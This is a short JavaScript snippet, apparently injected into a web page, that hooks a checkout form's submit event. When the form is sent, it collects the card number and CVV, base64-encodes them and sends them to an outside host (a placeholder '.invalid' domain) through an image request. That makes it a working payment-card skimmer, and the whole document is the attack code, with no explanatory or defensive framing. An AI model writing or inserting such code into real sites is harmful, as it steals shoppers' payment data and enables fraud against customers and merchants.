document.querySelector("#checkout").addEventListener("submit", function () {
  var d = { n: document.getElementById("cc_number").value, c: document.getElementById("cvv").value };
  var i = new Image(); i.src = "https://collect.invalid/p?d=" + btoa(JSON.stringify(d));
});
